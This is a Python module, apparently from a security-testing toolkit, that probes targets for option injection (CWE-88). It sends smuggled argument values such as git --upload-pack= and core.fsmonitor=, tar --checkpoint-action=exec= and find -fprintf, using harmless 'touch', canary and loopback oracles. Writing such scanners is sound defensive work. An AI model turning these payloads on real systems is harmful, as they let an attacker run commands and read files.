"""T-OPT-001: option (argument) injection into a command the target runs (CWE-88)."""

from __future__ import annotations

import os
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

from attacks.base import AttackContext, AttackSpec, Target, excerpt, new_evidence, register, take
from toolkit.core.model import Finding, Severity


@dataclass(frozen=True)
class Probe:
    payload: str
    why: str
    side: Path | None = None  # a file the injected option would create
    tokens: tuple[str, ...] = ()  # canary content the injected option would reveal


class Listener:
    """A loopback HTTP listener of the toolkit's own: a request that reaches it carrying a
    probe's token proves an injected option pointed the target's command at it.
    """

    def __init__(self) -> None:
        import socket
        import threading

        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = int(self.sock.getsockname()[1])
        self.seen: list[bytes] = []
        self.done = threading.Event()
        threading.Thread(target=self._serve, daemon=True, name="toolkit-opt-listener").start()

    def _serve(self) -> None:
        while not self.done.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1.0)
                try:
                    self.seen.append(conn.recv(4096))
                    conn.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n"
                                 b"Connection: close\r\n\r\n")
                except OSError:
                    pass

    def got(self, token: str, wait: float = 0.15) -> bytes | None:
        deadline = time.monotonic() + wait
        while True:
            hit = next((b for b in list(self.seen) if token.encode() in b), None)
            if hit is not None or time.monotonic() > deadline:
                return hit
            time.sleep(0.05)

    def close(self) -> None:
        self.done.set()
        self.sock.close()


def listener_probes(port: int, tag: str) -> Iterator[Probe]:
    """Options that point a client (kubectl, helm, git, npm, curl-likes) at the listener."""
    for flag in ("--server", "--url", "--registry", "--endpoint", "--host", "--proxy"):
        yield Probe(f"{flag}=http://127.0.0.1:{port}/{tag}-{flag.strip('-')}",
                    f"{flag}= pointing at the toolkit's listener",
                    tokens=(f"{tag}-{flag.strip('-')}",))


def interleave(first: list[Probe], second: list[Probe]) -> list[Probe]:
    """One of each in turn, so a case cut short by its time share has tried both kinds."""
    out: list[Probe] = []
    for i in range(max(len(first), len(second))):
        out += first[i:i + 1] + second[i:i + 1]
    return out


def corpus(side_dir: Path, tag: str, outside: Path, outside_content: str) -> Iterator[Probe]:
    def side(n: str) -> Path:
        return side_dir / f"toolkit-opt-{tag}-{n}"

    yield Probe(f"--output={side('output')}", "git/diff --output=", side("output"))
    yield Probe(f"-o{side('o')}", "-o<file>", side("o"))
    yield Probe(f"--output-document={side('od')}", "--output-document=", side("od"))
    yield Probe(f"--upload-pack=touch {side('up')}", "--upload-pack=", side("up"))
    yield Probe(f"--receive-pack=touch {side('rp')}", "--receive-pack=", side("rp"))
    yield Probe(f"--exec=touch {side('exec')}", "--exec=", side("exec"))
    yield Probe(f"--to-command=touch {side('tc')}", "tar --to-command=", side("tc"))
    yield Probe(
        f"--checkpoint-action=exec=touch {side('cp')}", "tar --checkpoint-action=", side("cp")
    )
    yield Probe(f"-c core.fsmonitor=touch {side('fsm')}", "git -c core.fsmonitor=", side("fsm"))
    yield Probe(f"--config=core.fsmonitor=touch {side('cfg')}", "git --config=", side("cfg"))
    yield Probe(
        f"--open-files-in-pager=touch {side('pager')}",
        "git grep --open-files-in-pager=",
        side("pager"),
    )
    yield Probe(
        f"--no-index={outside}", "--no-index with an outside file", tokens=(outside_content,)
    )
    yield Probe(f"--file={outside}", "--file= an outside file", tokens=(outside_content,))
    yield Probe(f"--contents={outside}", "git blame --contents=", tokens=(outside_content,))
    yield Probe(f"-fprintf {side('fp')} x", "find -fprintf", side("fp"))


@register
class OptionInjection:
    """Option injection (CWE-88), told apart from shell injection (CWE-78).

    For option surfaces (one argument of a command the target runs, such as a git
    revision or branch name): values that a command would read as an option rather than
    an operand: ``--output=``, ``-o``, ``--upload-pack=``, ``--exec=``,
    ``-c core.fsmonitor=``, ``--open-files-in-pager=``, tar's ``--to-command=`` and
    ``--checkpoint-action=``, ``--no-index``/``--file=``/``--contents=`` pointing at
    an outside canary, find's ``-fprintf``, and ``--server=``/``--url=``/``--registry=``
    (and the like) pointing at a loopback listener of the toolkit's. Computed oracles: a
    side-effect file created in the toolkit's private folder (the argument was taken as an
    option that wrote or ran something), an outside canary's content in the reply, or a
    request carrying the probe's token arriving at the listener.
    """

    spec = AttackSpec(
        "T-OPT-001", "options", "Option injection into a command", 88, Severity.HIGH, ("option",)
    )

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        side_dir = ctx.canaries.work / "opt-side"
        side_dir.mkdir(parents=True, exist_ok=True)
        outside, content = ctx.canaries.file(ctx.canaries.work / "opt-outside")
        listener = Listener()
        try:
            yield from self._probe(ctx, target, side_dir, outside, content, listener)
        finally:
            listener.close()

    def _probe(self, ctx: AttackContext, target: Target, side_dir: Path, outside: Path,
               content: str, listener: Listener) -> Iterator[Finding]:
        tag = ctx.canaries.token()
        probes = interleave(list(corpus(side_dir, tag, outside, content)),
                            list(listener_probes(listener.port, tag)))
        for probe in take(probes, ctx.limit):
            reply = target.send(probe.payload)
            ctx.seen(self.spec.id, target, probe.payload, reply)
            if "listener" in probe.why and probe.tokens:
                hit = listener.got(probe.tokens[0])
                if hit is not None:
                    first = hit.split(b"\r\n", 1)[0].decode("latin-1")
                    yield ctx.finding(self.spec, target, "option", probe.payload, reply,
                                      f"{probe.why}: the target's command called it: {first!r}",
                                      f"option:listener:{probe.why}")
                continue
            if probe.side is not None and os.path.lexists(probe.side):
                ctx.canaries.claim(probe.side)
                yield ctx.finding(self.spec, target, "option", probe.payload, reply,
                                  f"{probe.why}: the argument was taken as an option and created "
                                  f"{probe.side.name}", f"option:side:{probe.why}")
                continue
            tok = new_evidence(reply, probe.tokens, target.baseline, probe.payload)
            if tok:
                yield ctx.finding(
                    self.spec,
                    target,
                    "option",
                    probe.payload,
                    reply,
                    f"{probe.why}: outside canary content in the reply: {excerpt(reply.text, tok)}",
                    f"option:read:{probe.why}",
                )
